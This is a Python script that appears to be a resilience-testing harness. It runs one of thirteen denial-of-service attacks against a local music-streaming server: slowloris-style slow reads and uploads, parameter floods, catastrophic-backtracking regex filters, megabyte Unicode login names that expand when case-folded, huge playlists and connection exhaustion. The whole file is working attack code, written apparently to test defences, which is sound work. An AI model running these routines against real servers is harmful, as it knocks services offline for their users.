"""One hostile client: attacks a server on this machine from an address of its own, in one way, until it is killed.

    hostile-clients.py PORT ADDRESS SECRET ATTACK SONG SONG …

SECRET is the app password of an ordinary user, which half of the attacks do without; SONG is the id of a song of some
minutes. Programs that were started for each request would take the processor from the server: so all are made here, each a
hundredth of a second after the one before was answered, as from another machine.
"""

import http.client
import json
import random
import socket
import sys
import threading
import time
import urllib.parse

SERVER = ("127.0.0.1", int(sys.argv[1]))
ADDRESS, SECRET, ATTACK, *SONGS = sys.argv[2:]
KEY = f"apiKey={SECRET}&c=hostile&f=json"
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}
BEARER = {"Authorization": f"Bearer {SECRET}"}
ROUND_TRIP = 0.01


def request(method, path, body=None, headers={}, seconds=20):
    """Makes one request on a connection of its own, and leaves after so many seconds without a byte."""
    connection = http.client.HTTPConnection(*SERVER, timeout=seconds, source_address=(ADDRESS, 0))
    try:
        connection.request(method, path, body, headers)
        answer = connection.getresponse()
        while answer.read(65536):
            pass
    except (OSError, http.client.HTTPException):
        pass
    connection.close()
    time.sleep(ROUND_TRIP)


def connect(address, seconds):
    connection = socket.socket()
    connection.settimeout(seconds)
    connection.bind((address, 0))
    connection.connect(SERVER)
    return connection


def at_once(count, deed):
    threads = [threading.Thread(target=deed, args=(number,)) for number in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def read_slowly(path, rate, seconds):
    """Reads an answer at so many bytes a second."""
    try:
        connection = connect(ADDRESS, seconds)
        connection.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        end = time.monotonic() + seconds
        while time.monotonic() < end and connection.recv(rate):
            time.sleep(1)
        connection.close()
    except OSError:
        pass


def endless_forms():
    """Bodies that become hundreds of megabytes where they are taken apart: more parameters than are taken, and as many as are."""
    for body in ("&a" * (5 << 20), f"id={'a' * 100}&" * 99_999):
        request("POST", "/rest/ping", body, FORM)


def unknown_logins():
    """Logins each of which would take a third of a second to check."""
    request("GET", f"/rest/ping?u=nobody{random.random()}&p=wrong&c=x&f=json")


def spelled_logins():
    """Logins with one name in many spellings."""
    request("GET", f"/rest/ping?u=owner%00{random.random()}&p=wrong&c=x&f=json")


def idle_readers():
    """Connections that stay open after an answer which nobody reads."""
    at_once(50, lambda _: read_slowly("/", rate=1, seconds=20))


def slow_filters():
    """Filters that would take ten seconds, by clients that leave at once."""
    words = " or ".join(["path matches '(.*)*(.*)*(.*)*N!'"] * 200)
    request("GET", "/api/v1/items?" + urllib.parse.urlencode({"where": words}), None, BEARER, 0.1)


def unread_transcodes():
    at_once(len(SONGS), lambda number: read_slowly(f"/rest/stream?{KEY}&format=wav&id={SONGS[number]}", 50, 15))


def long_playlists():
    """A playlist of a hundred thousand entries, read again and again."""
    request("POST", f"/rest/createPlaylist?{KEY}&name=long", f"songId={SONGS[0]}&" * 100_000, FORM, 60)
    for number in range(1, 10):
        request("GET", f"/rest/getPlaylist?{KEY}&id=pl-{number}", seconds=60)


def changes():
    """As many changes as possible."""
    for song in SONGS:
        request("GET", f"/rest/star?{KEY}&id={song}")


def long_logins():
    """Logins with names of a megabyte that fold to eighteen times as many letters, and with plain ones."""
    for name in ("\ufdfa" * 300_000, "a" * 1_000_000):
        body = json.dumps({"user": name, "password": "x"}, ensure_ascii=False).encode()
        at_once(6, lambda _: request("POST", "/api/v1/session", body, JSON, 60))


def slow_logins(addresses):
    """190 logins of a megabyte at once from each address, the last byte three seconds after the others."""
    body = json.dumps({"user": "b" * 1_000_000, "password": "x"}).encode()
    head = (
        "POST /api/v1/session HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    ).encode()
    connections = []
    for address in addresses * 190:
        try:
            connection = connect(address, 5)
            connection.sendall(head + body[:-1])
            connections.append(connection)
        except OSError:
            pass
    time.sleep(3)
    for connection in connections:
        try:
            connection.sendall(body[-1:])
            connection.recv(1000)
        except OSError:
            pass
        connection.close()


def long_searches():
    """Searches of 300 KB, by clients that leave at once."""
    request("POST", f"/rest/search3?{KEY}", ("query=" + "\ufdfa" * 100_000).encode(), FORM, 0.5)


def idle_connections():
    """As many connections as five addresses may have, idle after an answer, and opened again when they were closed."""
    known = {}
    end = time.monotonic() + 30
    while time.monotonic() < end:
        for place in ((address, number) for address in range(1, 6) for number in range(210)):
            try:
                if place in known:
                    try:
                        if known[place].recv(65536, socket.MSG_DONTWAIT):
                            continue
                    except BlockingIOError:
                        continue
                    known.pop(place).close()
                connection = connect(f"127.0.4.{place[0]}", 2)
                connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
                known[place] = connection
            except OSError:
                known.pop(place, None)
        time.sleep(0.5)
    for connection in known.values():
        connection.close()


ATTACKS = [
    endless_forms,
    unknown_logins,
    spelled_logins,
    idle_readers,
    slow_filters,
    unread_transcodes,
    long_playlists,
    changes,
    long_logins,
    lambda: slow_logins(["127.0.2.1"]),
    lambda: slow_logins([f"127.0.3.{number}" for number in range(1, 5)]),
    long_searches,
    idle_connections,
]

while True:
    ATTACKS[int(ATTACK)]()
